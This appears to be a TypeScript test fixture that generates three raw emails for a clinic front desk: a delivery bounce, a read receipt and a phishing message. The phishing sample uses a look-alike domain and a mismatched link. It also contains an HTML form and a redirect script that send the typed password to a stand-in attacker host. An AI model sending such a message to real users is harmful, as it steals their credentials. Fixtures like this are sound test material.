import { clinic, people } from './people.ts';

/** Messages whose point is their form: a phishing message, a bounce, a read receipt. Lines end in CRLF. */
export interface RawSample {
  readonly mailbox: 'INBOX' | 'Junk';
  readonly to: 'frontDesk';
  readonly source: string;
}

const crlf = (text: string): string => text.replaceAll(/\r?\n/g, '\r\n');

/** The three raw messages, dated relative to `now`. */
export function rawSamples(now: Date): RawSample[] {
  const date = (hoursAgo: number) =>
    new Date(now.getTime() - hoursAgo * 3_600_000).toUTCString().replace('GMT', '+0000');
  const desk = people.frontDesk.address;
  return [
    {
      mailbox: 'INBOX',
      to: 'frontDesk',
      source: crlf(`From: "support@${clinic.domain}" <admin@riverside-cllnic.example>
Reply-To: <collect@mail-secure.example>
To: <${desk}>
Subject: URGENT: mailbox almost full, confirm your password today
Date: ${date(6)}
Message-ID: <phish-1@riverside-cllnic.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body><p>Dear user,</p><p>your mailbox is <b>98 % full</b>. Confirm at
<a href="https://login.mail-secure.example/riverside">https://mail.${clinic.domain}/login</a> within 24 hours.</p>
<form action="https://login.mail-secure.example/post"><input name="password" type="password"><button>Confirm</button></form>
<script>document.location='https://login.mail-secure.example'</script></body></html>
`),
    },
    {
      mailbox: 'INBOX',
      to: 'frontDesk',
      source: crlf(`From: Mail Delivery System <MAILER-DAEMON@mx.${clinic.domain}>
To: <${desk}>
Subject: Undelivered Mail Returned to Sender
Date: ${date(10)}
Message-ID: <bounce-1@mx.${clinic.domain}>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="bounce-boundary"

--bounce-boundary
Content-Type: text/plain; charset=us-ascii

The message to <old.address@postbox.example> could not be delivered: the mailbox does not exist.

--bounce-boundary
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.${clinic.domain}
Arrival-Date: ${date(10.2)}

Final-Recipient: rfc822; old.address@postbox.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 <old.address@postbox.example>: user unknown

--bounce-boundary
Content-Type: text/rfc822-headers

From: ${people.frontDesk.name} <${desk}>
To: <old.address@postbox.example>
Subject: Your appointment
Message-ID: <sent-to-old-address@${clinic.domain}>

--bounce-boundary--
`),
    },
    {
      mailbox: 'INBOX',
      to: 'frontDesk',
      source: crlf(`From: ${people.nair.name} <${people.nair.address}>
To: <${desk}>
Subject: Read: Re: Referral for echocardiogram
Date: ${date(5)}
Message-ID: <mdn-1@cardio-partners.example>
In-Reply-To: <nair-2@${clinic.domain}>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=disposition-notification; boundary="mdn-boundary"

--mdn-boundary
Content-Type: text/plain; charset=us-ascii

The message was displayed on the screen of the recipient. This does not say that it was read or understood.

--mdn-boundary
Content-Type: message/disposition-notification

Reporting-UA: cardio-partners.example; Example Mail
Final-Recipient: rfc822; ${people.nair.address}
Original-Message-ID: <nair-2@${clinic.domain}>
Disposition: manual-action/MDN-sent-manually; displayed

--mdn-boundary--
`),
    },
  ];
}
